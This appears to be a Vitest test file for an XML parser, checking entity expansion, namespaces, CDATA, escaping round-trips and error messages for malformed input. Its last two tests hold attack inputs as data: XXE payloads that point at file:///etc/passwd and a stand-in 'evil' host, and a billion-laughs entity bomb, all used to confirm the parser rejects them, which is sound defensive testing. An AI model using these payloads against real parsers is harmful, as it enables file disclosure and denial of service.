import { describe, expect, it } from 'vitest';
import { parseXml } from '../../src/exchange/xml/parse-xml.js';
import { attr, textContent } from '../../src/exchange/xml/xml-tree.js';
import { escapeXmlAttribute, escapeXmlText } from '../../src/exchange/xml/escape-xml.js';

const file = 'x.xml';

describe('parseXml', () => {
  it('reads elements, namespaces, attributes, entities and CDATA', () => {
    const { root } = parseXml('<?xml version="1.0"?>\n<a xmlns="urn:a" xmlns:b="urn:b" b:x="1 &amp; 2">t&lt;&#x41;&#66;<![CDATA[<raw>]]><b:c/></a>', { file });
    expect(root.ns).toBe('urn:a');
    expect(attr(root, 'x', 'urn:b')).toBe('1 & 2');
    expect(textContent(root)).toBe('t<AB<raw>');
    expect(root.children.at(-1)).toMatchObject({ local: 'c', ns: 'urn:b', line: 2 });
  });

  it('round-trips escaped text, CR and attribute line ends', () => {
    const text = 'a\r\nb <&> "q"\tz';
    const { root } = parseXml(`<a v="${escapeXmlAttribute(text)}">${escapeXmlText(text)}</a>`, { file });
    expect(attr(root, 'v')).toBe(text);
    expect(textContent(root)).toBe(text);
  });

  it('expands small internal entities', () => {
    const { root } = parseXml('<!DOCTYPE a [<!ENTITY who "world">]><a>hello &who;</a>', { file });
    expect(textContent(root)).toBe('hello world');
  });

  it.each([
    ['<a><b></a>', 1, 'Unexpected closing tag `</a>`, expected `</b>`'],
    ['<a>\n  <b x="1" x="2"/></a>', 2, 'duplicate attribute'],
    ['<a>\n\n & </a>', 3, 'Unexpected `&`'],
    ['<a>', 1, 'Unexpected end of file'],
    ['<a/><b/>', 1, 'after the root element'],
    ['<p:a/>', 1, 'Unexpected prefix `p`'],
  ])('refuses malformed XML %j with line:column', (xml, line, message) => {
    try {
      parseXml(xml, { file });
      expect.unreachable();
    } catch (error) {
      expect(String(error)).toContain('Malformed XML');
      expect(String(error)).toContain(message);
      expect(String(error)).toMatch(new RegExp(`^x\\.xml:${line}:\\d+: Malformed XML`));
      expect((error as { place: { line: number; column: number } }).place).toMatchObject({ file, line });
    }
  });

  it('refuses external and parameter entities (XXE) without reading anything', () => {
    expect(() => parseXml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', { file })).toThrow(/external entity `x` \(SYSTEM\)/);
    expect(() => parseXml('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a/>', { file })).toThrow(/parameter entit/);
    expect(() => parseXml('<!DOCTYPE a [<!ENTITY x PUBLIC "-//x" "http://evil/">]><a/>', { file })).toThrow(/external entity `x` \(PUBLIC\)/);
  });

  it('bounds entity expansion (billion laughs)', () => {
    const levels = ['<!ENTITY l0 "lol">'];
    for (let i = 1; i < 10; i++) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
    expect(() => parseXml(`<!DOCTYPE a [${levels.join('')}]><a>&l9;</a>`, { file })).toThrow(/entity expansion beyond 100000 characters/);
  });
});
